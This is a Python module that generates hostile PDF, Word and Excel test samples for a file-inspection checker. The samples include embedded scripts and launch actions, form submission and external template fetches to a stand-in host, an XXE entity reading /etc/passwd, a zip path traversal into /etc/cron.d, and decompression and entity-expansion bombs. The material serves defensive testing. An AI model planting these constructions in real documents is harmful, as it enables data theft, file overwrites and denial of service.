"""PDF, Word and Excel files that are made to hurt: scripts, macros, bombs, lies, and the same broken at random."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterable, Iterator, Mapping

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String

from suggestions.inspection import compound_files
from tests.security.hostile_pictures import Hostile, broken, zeros

WORD = '<?xml version="1.0"?><w:document xmlns:w="urn:w"><w:body/></w:document>'
TYPES = '<?xml version="1.0"?><Types xmlns="urn:t"><Override PartName="/word/document.xml" ContentType="{}"/></Types>'
PLAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
#: What is taken all the same, for download: it acts when a reader opens it, not by itself.
TAKEN = frozenset(
    {"PDF with a file inside", "PDF with a signature", "Word with a workbook inside", "PDF of many small pages"}
)


def all_of(chance: random.Random) -> Iterator[Hostile]:
    """Yields name, ending and bytes of each."""
    yield from _acting_pdfs()
    yield from _heavy_pdfs()
    for number in range(25):
        yield f"broken PDF {number}", ".pdf", broken(pdf(lambda made: None), chance)
    yield from _archives()
    for number in range(15):
        yield f"broken Word {number}", ".docx", broken(word(), chance)
    yield from _old_files(chance)


def pdf(change, **options: object) -> bytes:
    """Returns a PDF of one page, changed before it is written."""
    made = Pdf.new()
    made.add_blank_page()
    change(made)
    target = io.BytesIO()
    made.save(target, deterministic_id="encryption" not in options, **options)
    return target.getvalue()


def _action(**action: object):
    def change(made: Pdf) -> None:
        made.Root.OpenAction = Dictionary(Type=Name.Action, **action)

    return change


def _address() -> Dictionary:
    return Dictionary(S=Name.URI, URI=String("http://198.51.100.7/"))


def _acting_pdfs() -> Iterator[Hostile]:
    yield "PDF with a script", ".pdf", pdf(_action(S=Name.JavaScript, JS=String("app.alert(1)")))
    yield "PDF that starts a program", ".pdf", pdf(_action(S=Name.Launch, F=String("calc.exe")))
    yield "PDF that sends a form", ".pdf", pdf(_action(S=Name.SubmitForm, F=String("http://198.51.100.7/")))
    yield "PDF that fetches data", ".pdf", pdf(_action(S=Name.ImportData, F=String("a.fdf")))
    yield "PDF that opens another", ".pdf", pdf(_action(S=Name.GoToE, F=String("a.pdf")))
    yield "PDF that opens an address", ".pdf", pdf(_action(S=Name.URI, URI=String("http://198.51.100.7/")))
    yield "PDF that opens one after a turn of pages", ".pdf", pdf(_action(S=Name.GoTo, Next=_address()))
    yield (
        "PDF with a script in object streams",
        ".pdf",
        pdf(_action(S=Name.JavaScript, JS=String("1")), object_stream_mode=pikepdf.ObjectStreamMode.generate),
    )

    def named(made: Pdf) -> None:
        script = made.make_indirect(Dictionary(S=Name.JavaScript, JS=String("1")))
        made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))

    def additional(made: Pdf) -> None:
        made.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("1")))

    def turned(made: Pdf) -> None:
        made.pages[0].obj.AA = Dictionary(O=_address())

    def noted(made: Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("a.exe")))
        made.pages[0].obj.Annots = Array([made.make_indirect(note)])

    def chained(made: Pdf) -> None:
        made.Root.OpenAction = Dictionary(S=Name.GoTo, Next=Array([Dictionary(S=Name.JavaScript, JS=String("1"))]))

    def streamed(made: Pdf) -> None:
        made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=made.make_stream(b"app.alert(1)"))

    def form(made: Pdf) -> None:
        made.Root.AcroForm = Dictionary(XFA=made.make_stream(b"<xdp/>"), Fields=Array([]))

    def rich(made: Pdf) -> None:
        made.pages[0].obj.Annots = Array([made.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia))])

    def filled(made: Pdf) -> None:
        made.attachments["a.exe"] = b"MZ"

    def signed(made: Pdf) -> None:
        made.Root.AcroForm = Dictionary(
            Fields=Array(
                [
                    made.make_indirect(
                        Dictionary(
                            FT=Name.Sig,
                            V=Dictionary(Type=Name.Sig, ByteRange=Array([0, 1, 2, 3]), Contents=String("0")),
                        )
                    )
                ]
            )
        )

    def signed_script(made: Pdf) -> None:
        signed(made)
        named(made)

    for name, change in {
        "PDF with a named script": named,
        "PDF with a script for a page": additional,
        "PDF whose page opens an address": turned,
        "PDF with a link to a program": noted,
        "PDF with a script after a leap": chained,
        "PDF with a script in a stream": streamed,
        "PDF with an XFA form": form,
        "PDF with rich media": rich,
        "PDF with a file inside": filled,
        "PDF with a signature": signed,
        "signed PDF with a script": signed_script,
    }.items():
        yield name, ".pdf", pdf(change)
    yield (
        "PDF with a script behind another name",
        ".pdf",
        pdf(_action(S=Name.JavaScript, JS=String("1"))).replace(b"/JavaScript", b"/Java#53cript"),
    )
    yield (
        "PDF locked with a password",
        ".pdf",
        pdf(lambda made: None, encryption=pikepdf.Encryption(user="a", owner="b")),
    )


def _heavy_pdfs() -> Iterator[Hostile]:
    def boxed(*sides: float):
        def change(made: Pdf) -> None:
            made.pages[0].obj.MediaBox = Array(list(sides))

        return change

    yield "PDF with a page of a kilometre", ".pdf", pdf(boxed(0, 0, 3_000_000, 3_000_000))
    sides = b"[ 0 0 99999999999999999999 1 ]"
    yield "PDF with a page wider than any number", ".pdf", pdf(boxed(0, 0, 1, 1)).replace(b"[ 0 0 1 1 ]", sides)
    hidden = b"[ 0 0 1e30 1 ] /AA << /O << /S /JavaScript /JS (1) >> >>"
    yield "PDF with a script in a page that is broken", ".pdf", pdf(boxed(0, 0, 1, 1)).replace(b"[ 0 0 1 1 ]", hidden)

    def many(made: Pdf) -> None:
        for _each in range(400):
            made.add_blank_page(page_size=(10, 10))

    yield "PDF of many small pages", ".pdf", pdf(many)

    def nested(made: Pdf) -> None:
        inner = Array([])
        for _each in range(400):
            inner = Array([inner])
        made.Root.Deep = inner

    yield "PDF of nested lists", ".pdf", pdf(nested)
    yield (
        "PDF of lists nested a hundred thousand times",
        ".pdf",
        b"%PDF-1.7\n1 0 obj\n" + b"[" * 100_000 + b"]" * 100_000 + b"\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF",
    )
    yield (
        "PDF whose pages are their own parents",
        ".pdf",
        (
            b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\n"
            b"trailer<</Root 1 0 R>>\n%%EOF"
        ),
    )
    yield (
        "PDF of four hundred thousand objects",
        ".pdf",
        b"%PDF-1.7\n"
        + b"".join(b"%d 0 obj<<>>endobj\n" % number for number in range(1, 400_000))
        + b"trailer<</Root 1 0 R>>\n%%EOF",
    )
    yield "PDF whose object stream unpacks to a gigabyte", ".pdf", _object_stream(zeros(1 << 30), packs=1)
    yield "PDF whose object stream is packed twice", ".pdf", _object_stream(zlib.compress(zeros(2 << 30)), packs=2)
    yield "PDF whose table unpacks to a gigabyte", ".pdf", _table_stream(zeros(1 << 30))
    yield (
        "PDF that says two thousand million objects",
        ".pdf",
        b"%PDF-1.7\nxref\n0 2147483647\ntrailer<</Size 2147483647/Root 1 0 R>>\nstartxref\n9\n%%EOF",
    )
    yield "PDF without anything", ".pdf", b"%PDF-1.7\n%%EOF"
    yield "PDF that ends in the middle", ".pdf", pdf(lambda made: None)[:200]
    yield "PDF with a page behind it", ".pdf", b"%PDF-1.7\n<script>alert(1)</script>"


def _object_stream(packed: bytes, *, packs: int) -> bytes:
    filters = b"/FlateDecode " * packs
    head = b"%%PDF-1.7\n1 0 obj<</Type/ObjStm/N 2/First 9/Filter[%b]/Length %d>>stream\n" % (filters, len(packed))
    body = head + packed + b"\nendstream endobj\n"
    entries = b"".join(
        struct.pack(">BIH", *entry) for entry in [(0, 0, 0), (1, 9, 0), (2, 1, 0), (2, 1, 1), (1, len(body), 0)]
    )
    table = b"4 0 obj<</Type/XRef/Size 5/W[1 4 2]/Root 2 0 R/Length %d>>stream\n%b\nendstream endobj\n" % (
        len(entries),
        entries,
    )
    return body + table + b"startxref\n%d\n%%%%EOF" % len(body)


def _table_stream(packed: bytes) -> bytes:
    head = (
        b"%%PDF-1.7\n1 0 obj<</Type/XRef/Size 99999999/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length %d>>stream\n"
        % len(packed)
    )
    return head + packed + b"\nendstream endobj\nstartxref\n9\n%%EOF"


def archive(parts: Mapping[str, str | bytes], *, packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    return packed(parts.items(), packing=packing)


def packed(parts: Iterable[tuple[str, str | bytes]], *, packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Returns an archive of parts in their order, each of the same day: the same parts make the same bytes at any time."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as made:
        for name, part in parts:
            made.writestr(zipfile.ZipInfo(name), part, compress_type=packing)
    return stream.getvalue()


def word(**parts: str | bytes) -> bytes:
    """Returns a Word file; a part is named with __ for / and _ for a dot."""
    named = {name.replace("__", "/").replace("_", "."): part for name, part in parts.items()}
    return archive(
        {
            "[Content_Types].xml": TYPES.format(PLAIN),
            "_rels/.rels": "<r/>",
            "docProps/app.xml": "<a/>",
            "word/document.xml": WORD,
        }
        | named
    )


def with_part(name: str, part: str | bytes) -> bytes:
    basis = {
        "[Content_Types].xml": TYPES.format(PLAIN),
        "_rels/.rels": "<r/>",
        "docProps/app.xml": "<a/>",
        "word/document.xml": WORD,
    }
    return archive(basis | {name: part})


def _archives() -> Iterator[Hostile]:
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    yield "Word that says macros", ".docx", with_part("[Content_Types].xml", TYPES.format(macro))
    yield (
        "Word that says macros in UTF-16",
        ".docx",
        with_part("[Content_Types].xml", TYPES.format(macro).encode("utf-16")),
    )
    for name in (
        "word/vbaProject.bin",
        "word/VBAPROJECT.BIN",
        "word/other/vbaProject.bin",
        "word\\vbaProject.bin",
        "word/vbaData.xml",
        "xl/macrosheets/sheet1.xml",
    ):
        yield f"Word with {name}", ".docx", with_part(name, b"\xd0\xcf\x11\xe0")
    yield (
        "Word with a project of another name",
        ".docx",
        with_part("[Content_Types].xml", TYPES.format("application/vnd.ms-office.vbaProject")),
    )
    yield "Word with a program", ".docx", with_part("word/activeX/activeX1.bin", b"a")
    yield "Word with a workbook inside", ".docx", with_part("word/embeddings/Workbook1.xlsx", b"a")
    for kind in ("attachedTemplate", "oleObject", "frame", "subDocument"):
        link = f'<Relationships><Relationship Id="r" Type="http://x/{kind}" Target="http://198.51.100.7/a" TargetMode="External"/></Relationships>'
        yield f"Word that fetches: {kind}", ".docx", with_part("word/_rels/document.xml.rels", link)
    entities = (
        '<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb">'
        + "".join(f'<!ENTITY c{n} "{"&b;" * 10}">' for n in range(9))
        + "]><a>&c8;</a>"
    )
    yield (
        "Word that grows while it is read",
        ".docx",
        with_part("word/document.xml", '<?xml version="1.0"?>' + entities),
    )
    yield "Word that grows, in UTF-16", ".docx", with_part("word/document.xml", entities.encode("utf-16"))
    yield "Word that grows, after much white space", ".docx", with_part("word/document.xml", " " * 3_000_000 + entities)
    yield (
        "Word that reads a file of the machine",
        ".docx",
        with_part("word/styles.xml", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    )
    yield "Word that unpacks to 300 MB", ".docx", with_part("word/document.xml", bytes(300 << 20))
    yield "Word with a part that unpacks a thousandfold", ".docx", with_part("word/media/image1.bin", bytes(60 << 20))
    yield (
        "Word of ten parts of 40 MB",
        ".docx",
        archive(
            {
                "[Content_Types].xml": TYPES.format(PLAIN),
                "_rels/.rels": "<r/>",
                "docProps/app.xml": "<a/>",
                "word/document.xml": WORD,
            }
            | {f"word/{n}.bin": bytes(40 << 20) for n in range(10)}
        ),
    )
    yield (
        "Word of 20,000 parts",
        ".docx",
        archive(
            {
                "[Content_Types].xml": TYPES.format(PLAIN),
                "_rels/.rels": "<r/>",
                "docProps/app.xml": "<a/>",
                "word/document.xml": WORD,
            }
            | {f"word/{n}.xml": "<a/>" for n in range(20_000)}
        ),
    )
    yield "Word that lies on its size", ".docx", _lying(with_part("word/a.xml", bytes(400 << 20)))
    yield "Word with locked parts", ".docx", _locked(word())
    yield "Word whose parts lie on each other", ".docx", _overlapping(word())
    yield "Word with a part outside", ".docx", with_part("../../../../etc/cron.d/vbaProject.bin", b"a")
    yield "Word without its end", ".docx", word()[:-30]
    yield (
        "Word packed with an unknown method",
        ".docx",
        word().replace(b"PK\x01\x02\x14\x03\x14\x00\x00\x00\x08", b"PK\x01\x02\x14\x03\x14\x00\x00\x00\x63"),
    )
    yield "Word with deep names", ".docx", with_part("word/" + "a/" * 20_000 + "vbaProject.bin", b"a")


def _lying(content: bytes) -> bytes:
    """Returns an archive whose last part says in the directory that it is small."""
    place = content.rindex(b"PK\x01\x02")
    return content[: place + 24] + struct.pack("<I", 10) + content[place + 28 :]


def _locked(content: bytes) -> bytes:
    found = bytearray(content)
    place = 0
    while (place := found.find(b"PK\x01\x02", place)) >= 0:
        found[place + 8] |= 1
        place += 4
    return bytes(found)


def _overlapping(content: bytes) -> bytes:
    """Returns an archive in which each part begins where the first begins."""
    found = bytearray(content)
    place = 0
    while (place := found.find(b"PK\x01\x02", place)) >= 0:
        found[place + 42 : place + 46] = bytes(4)
        place += 4
    return bytes(found)


FREE, END, TABLE = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD


def old_file(*names: str, more: bytes = b"", is_workbook: bool = False, blanks: int = 0) -> bytes:
    """Returns a file of before 2007 with streams of these names at its root, behind so many empty sectors."""
    begins = bytes.fromhex("0908100000060500") if is_workbook else bytes.fromhex("eca5c100")
    body = bytes(512 * blanks) + ((begins + more) if more else begins).ljust(512, b"\0")
    size = len(body) // 512
    rows = []  # joined at the end: adding to bytes copies them each time, which takes minutes for many names
    for number, name in enumerate(("Root Entry", *names)):
        text = name.encode("utf-16-le")[:62] + b"\0\0"
        following = number + 1 if 0 < number < len(names) else FREE
        child = 1 if number == 0 and names else FREE
        links = struct.pack("<III", FREE, following, child)
        rows.append(
            text.ljust(64, b"\0") + struct.pack("<HBB", len(text), 5 if number == 0 else 2, 1) + links + bytes(48)
        )
    entries = b"".join(rows)
    entries = entries.ljust(-(-len(entries) // 512) * 512, b"\0")
    directory = len(entries) // 512
    chain = [*range(1, size), END, TABLE, *range(size + 2, size + 1 + directory), END]
    head = compound_files.MARK + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    head += struct.pack("<IIIIIIIII", 0, 1, size + 1, 0, 4096, END, 0, END, 0) + struct.pack("<I", size)
    table = struct.pack(f"<{len(chain)}I", *chain).ljust(512, b"\xff")
    return head.ljust(512, b"\xff") + body + table + entries


def _old_files(chance: random.Random) -> Iterator[Hostile]:
    for name in ("_VBA_PROJECT", "_VBA_PROJECT_CUR", "VBA", "Macros", "macros", "PROJECTwm"):
        yield f"old Word with {name}", ".doc", old_file("WordDocument", name)
    for name in ("EncryptedPackage", "EncryptionInfo"):
        yield f"old Word with {name}", ".doc", old_file(name)
    yield "old Word with a program", ".doc", old_file("WordDocument", "\x01Ole10Native")
    sheet = b"\x85\x00\x10\x00" + bytes(4) + b"\x00\x01\x08\x00Macro1"
    yield "old Excel with a macro sheet", ".xls", old_file("Workbook", more=bytes(64) + sheet, is_workbook=True)
    for number in range(10):
        yield f"broken old Word {number}", ".doc", broken(old_file("WordDocument", "VBA"), chance)
